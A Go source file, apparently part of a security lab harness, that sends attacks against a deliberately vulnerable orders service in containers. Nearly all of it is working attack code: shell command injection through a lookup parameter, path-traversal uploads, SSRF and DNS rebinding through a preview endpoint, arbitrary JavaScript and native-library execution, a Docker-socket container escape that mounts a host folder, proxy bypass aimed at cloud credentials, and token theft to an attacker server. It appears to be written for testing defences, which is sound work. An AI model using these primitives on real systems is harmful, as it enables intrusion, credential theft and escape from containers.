package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// answer is what an attack got back: the bodies of its responses, or why there was none.
type answer struct {
	body     string
	err      error
	replaced bool // what was to be stolen is not what left: the service had another credential in its place
}

// send is how an attack is sent.
type send func(context.Context, *service) answer

// dial connects from the attacker's container, as a neighbour of the service does.
func (s *service) dial(ctx context.Context, address string) (net.Conn, *bufio.Reader, error) {
	c, err := (&net.Dialer{}).DialContext(ctx, "unix", filepath.Join(s.lab.dir, "attacker", "relay.sock"))
	if err != nil {
		return nil, nil, err
	}
	if deadline, ok := ctx.Deadline(); ok {
		_ = c.SetDeadline(deadline)
	}
	fmt.Fprintln(c, address)
	in := bufio.NewReader(c)
	said, err := in.ReadString('\n')
	if said = strings.TrimSpace(said); err == nil && said != "ok" {
		err = errors.New(said)
	}
	if err != nil {
		c.Close()
		return nil, nil, err
	}
	return c, in, nil
}

// request is one HTTP request, written as it is: no library repairs its target.
type request struct {
	to     string // host:port; empty means where the service's callers connect
	method string // empty means GET
	target string
	as     bearerOf // nil sends no token
	header http.Header
	kind   string // the body's media type
	body   []byte
}

// ask sends a request and reads the whole answer.
func (s *service) ask(ctx context.Context, q request) answer {
	body, err := s.exchange(ctx, q)
	if q.to == "" {
		s.answered = time.Now()
	}
	return answer{body: body, err: err}
}

func (s *service) exchange(ctx context.Context, q request) (string, error) {
	to, method := q.to, q.method
	if to == "" {
		to = net.JoinHostPort(s.address(), s.port)
	}
	if method == "" {
		method = http.MethodGet
	}
	c, in, err := s.dial(ctx, to)
	if err != nil {
		return "", err
	}
	defer c.Close()
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: orders.lab\r\nConnection: close\r\n", method, q.target)
	if q.as != nil {
		fmt.Fprintf(&b, "Authorization: Bearer %s\r\n", q.as(s.lab.issuer))
	}
	_ = q.header.Write(&b)
	if q.kind != "" {
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Length: %d\r\n", q.kind, len(q.body))
	}
	b.WriteString("\r\n")
	b.Write(q.body)
	if _, err := c.Write(b.Bytes()); err != nil {
		return "", err
	}
	response, err := http.ReadResponse(in, &http.Request{Method: method})
	if err != nil {
		return "", err
	}
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	return string(body), err
}

// get asks for a path.
func get(target string, as bearerOf) send {
	return func(ctx context.Context, s *service) answer { return s.ask(ctx, request{target: target, as: as}) }
}

// direct asks the service's own port, from the neighbour container, without a token.
func direct(target string) send {
	return func(ctx context.Context, s *service) answer {
		return s.ask(ctx, request{to: net.JoinHostPort(s.address(), "3000"), target: target})
	}
}

// carry asks with a token that the proof will look for.
func carry(target string) send {
	return func(ctx context.Context, s *service) answer {
		s.carried = reader(s.lab.issuer)
		before := len(s.visits(ctx))
		a := s.ask(ctx, request{target: target, as: same(s.carried)})
		for _, v := range s.visits(ctx)[before:] {
			had := v.Header.Get("Authorization")
			a.replaced = had != "" && had != "Bearer "+s.carried
		}
		return a
	}
}

// visit is a request to the attacker's server.
type visit struct {
	Target string
	Header http.Header
	Body   string
}

// visits are all that the attacker's server has had.
func (s *service) visits(ctx context.Context) (all []visit) {
	_ = json.Unmarshal([]byte(s.seen(ctx)), &all)
	return all
}

// seen is the same, as the attacker's server says it.
func (s *service) seen(ctx context.Context) string {
	return s.ask(ctx, request{to: net.JoinHostPort(labAddress(atAttacker), "80"), target: "/seen"}).body
}

// spellings asks for each of several paths that the service may take for the same.
func spellings(as bearerOf, targets ...string) send {
	return func(ctx context.Context, s *service) (all answer) {
		for _, t := range targets {
			a := s.ask(ctx, request{target: t, as: as})
			all.body += a.body + "\n"
			all.err = errors.Join(all.err, a.err)
		}
		return all
	}
}

// post sends a value as JSON.
func (s *service) post(ctx context.Context, target string, value any) answer {
	body, err := json.Marshal(value)
	if err != nil {
		return answer{err: err}
	}
	return s.ask(ctx, request{method: http.MethodPost, target: target, as: reader, kind: "application/json", body: body})
}

// upload writes a file by the service's own means.
func (s *service) upload(ctx context.Context, name string, content []byte) answer {
	return s.ask(ctx, request{method: http.MethodPost, target: "/uploads?name=" + url.QueryEscape(name), as: reader,
		kind: "application/octet-stream", body: content})
}

// traverse uploads a file under a name that leads out of the folder for uploads.
func traverse(name string) send {
	return func(ctx context.Context, s *service) answer { return s.upload(ctx, name, []byte(s.lab.secret.owned)) }
}

// preview makes the service's HTTP client do what the body says.
func preview(path string, config map[string]any) send {
	return func(ctx context.Context, s *service) answer { return s.post(ctx, path, config) }
}

// shell runs a command by the parameter that is put into one.
func shell(command string) send {
	return func(ctx context.Context, s *service) answer {
		return s.ask(ctx, request{target: "/lookup?host=" + url.QueryEscape("; "+command), as: reader})
	}
}

// script runs JavaScript in the service's process: whoever can, is the service.
func script(code string) send {
	return func(ctx context.Context, s *service) answer {
		return s.post(ctx, "/reports", map[string]string{"expression": code})
	}
}

// plant writes a file out of the service's process.
func plant(path string) send {
	return func(ctx context.Context, s *service) answer {
		return script(fmt.Sprintf("return require('node:fs').writeFileSync('%s', '%s')", path, s.lab.secret.owned))(ctx, s)
	}
}

// withoutProxy asks for a URL twice: with a proxy in the environment, which must refuse it or there is nothing to go
// around, and without. A proxy that is in the environment already is the one.
func withoutProxy(url string) send {
	return script(fmt.Sprintf("const url = '%s', proxy = process.env.HTTP_PROXY ?? 'http://%s:3128';", url, labAddress(atAttacker)) + `
		const axios = require('axios');
		const ask = () => axios.get(url, { timeout: 5000, responseType: 'text' }).then((r) => r.data, (e) => e.response?.data ?? e.message);
		const before = process.env.HTTP_PROXY;
		try {
			process.env.HTTP_PROXY = proxy;
			if (String(await ask()).includes('SecretAccessKey')) return 'the proxy does not refuse it';
			delete process.env.HTTP_PROXY;
			return await ask();
		} finally {
			if (before) process.env.HTTP_PROXY = before; else delete process.env.HTTP_PROXY;
		}`)
}

// native runs words of native/native.c inside the service's process: a shared object is uploaded and loaded. The
// words may hold expressions of JavaScript, ${...}.
func native(words string) send {
	return func(ctx context.Context, s *service) answer {
		name, content, err := s.payload("native.so")
		if err != nil {
			return answer{err: err}
		}
		if a := s.upload(ctx, name, content); a.err != nil {
			return a
		}
		return script(fmt.Sprintf("const library = '/data/%s'; process.env.LAB_ATTACK = `%s`;", name, words)+`
			process.env.LAB_RESULT = library + '.result';
			let refused;
			try { process.dlopen({ exports: {} }, library); } catch (e) { refused = e.message; }
			try { return require('node:fs').readFileSync(process.env.LAB_RESULT, 'utf8'); } catch { return refused; }`)(ctx, s)
	}
}

// program uploads the same as a static program, makes it executable and starts it.
func program(words string) send {
	return func(ctx context.Context, s *service) answer {
		name, content, err := s.payload("native")
		if err != nil {
			return answer{err: err}
		}
		if a := s.upload(ctx, name, content); a.err != nil {
			return a
		}
		return script(fmt.Sprintf("const file = '/data/%s', words = '%s'.split(' ');", name, words)+`
			require('node:fs').chmodSync(file, 0o755);
			return require('node:child_process').execFileSync(file, words, { encoding: 'utf8', timeout: 8000 });`)(ctx, s)
	}
}

// escape asks a container engine, by whatever way the attack has to it, for a container that mounts a folder of the
// host and writes the file there. It waits for the file if the engine made one.
func escape(way func(ctx context.Context, s *service, method, path string, body any) answer) send {
	return func(ctx context.Context, s *service) answer {
		key, value, _ := strings.Cut(s.lab.engine.label, "=")
		made := way(ctx, s, http.MethodPost, "/containers/create", map[string]any{
			"Image": s.lab.image, "Entrypoint": []string{"/bin/sh", "-c", "echo " + s.lab.secret.owned + " >/escape/owned"},
			"Labels":     map[string]string{key: value},
			"HostConfig": map[string]any{"Binds": []string{filepath.Join(s.dir(), "escape") + ":/escape"}, "NetworkMode": "none"},
		})
		id := created(made.body)
		if id == "" {
			return made
		}
		a := way(ctx, s, http.MethodPost, "/containers/"+id+"/start", nil)
		for range 80 {
			if s.owned("escape/owned") {
				break
			}
			time.Sleep(100 * time.Millisecond)
		}
		return answer{body: made.body + "\n" + a.body, err: a.err}
	}
}

// created finds the id of a new container, however often the answer has been quoted on its way.
func created(body string) string {
	_, after, ok := strings.Cut(strings.ReplaceAll(body, `\`, ""), `"Id":"`)
	if !ok || len(after) < 64 {
		return ""
	}
	return after[:64]
}

// byPreview reaches an engine through the service's HTTP client.
func byPreview(base string, more map[string]any) func(context.Context, *service, string, string, any) answer {
	return func(ctx context.Context, s *service, method, path string, body any) answer {
		config := map[string]any{"method": method, "url": base + path, "data": body}
		for k, v := range more {
			config[k] = v
		}
		return s.post(ctx, "/preview", config)
	}
}

// byCurl reaches the mounted socket with curl, out of a shell.
func byCurl(ctx context.Context, s *service, method, path string, body any) answer {
	data := ""
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return answer{err: err}
		}
		data = " -H 'Content-Type: application/json' -d '" + string(b) + "'"
	}
	return shell("curl -sS --max-time 8 --unix-socket /var/run/docker.sock -X "+method+data+" http://engine"+path)(ctx, s)
}

// socket opens the service's WebSocket and asks for the orders.
func socket(as bearerOf) send {
	return func(ctx context.Context, s *service) answer {
		c, in, err := s.dial(ctx, net.JoinHostPort(s.address(), s.port))
		if err != nil {
			return answer{err: err}
		}
		defer c.Close()
		fmt.Fprintf(c, "GET /ws HTTP/1.1\r\nHost: orders.lab\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"+
			"Sec-WebSocket-Key: bGFiLWxhYi1sYWItbGFiIQ==\r\nAuthorization: Bearer %s\r\n\r\n", as(s.lab.issuer))
		response, err := http.ReadResponse(in, nil)
		if err != nil {
			return answer{err: err}
		}
		if response.StatusCode != http.StatusSwitchingProtocols {
			body, err := io.ReadAll(response.Body)
			return answer{body: string(body), err: err}
		}
		// RFC 6455, section 5.2: a text frame in one piece, masked with zeros.
		message := `{"event":"orders"}`
		if _, err := c.Write(append([]byte{0x81, 0x80 | byte(len(message)), 0, 0, 0, 0}, message...)); err != nil {
			return answer{err: err}
		}
		var head [2]byte
		if _, err := io.ReadFull(in, head[:]); err != nil {
			return answer{err: err}
		}
		frame := make([]byte, head[1]&0x7f)
		_, err = io.ReadFull(in, frame)
		return answer{body: string(frame), err: err}
	}
}

// microservice calls a handler of the service over NestJS's TCP transport: a length, a hash sign, JSON.
func microservice(pattern string) send {
	return func(ctx context.Context, s *service) answer {
		c, in, err := s.dial(ctx, net.JoinHostPort(s.address(), "3001"))
		if err != nil {
			return answer{err: err}
		}
		defer c.Close()
		message := fmt.Sprintf(`{"pattern":%q,"data":{},"id":"1"}`, pattern)
		fmt.Fprintf(c, "%d#%s", len(message), message)
		var size int
		if _, err := fmt.Fscanf(in, "%d#", &size); err != nil {
			return answer{err: err}
		}
		b := make([]byte, size)
		_, err = io.ReadFull(in, b)
		return answer{body: string(b), err: err}
	}
}

// rebound is preview after the name server was told to begin anew with the name whose answers change.
func rebound(path string, config map[string]any) send {
	return func(ctx context.Context, s *service) answer {
		c, in, err := s.dial(ctx, net.JoinHostPort(labAddress(atNames), "53"))
		if err != nil {
			return answer{err: err}
		}
		defer c.Close()
		query := append([]byte{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}, "\x05reset\x03lab\x00\x00\x01\x00\x01"...)
		if _, err := c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...)); err != nil {
			return answer{err: err}
		}
		if _, err := in.ReadByte(); err != nil {
			return answer{err: err}
		}
		return preview(path, config)(ctx, s)
	}
}

// payload is a file of the attacker's under a name that was not used yet.
func (s *service) payload(name string) (string, []byte, error) {
	content, err := os.ReadFile(s.lab.built(name))
	s.sent++
	return fmt.Sprintf("%d-%s", s.sent, name), content, err
}
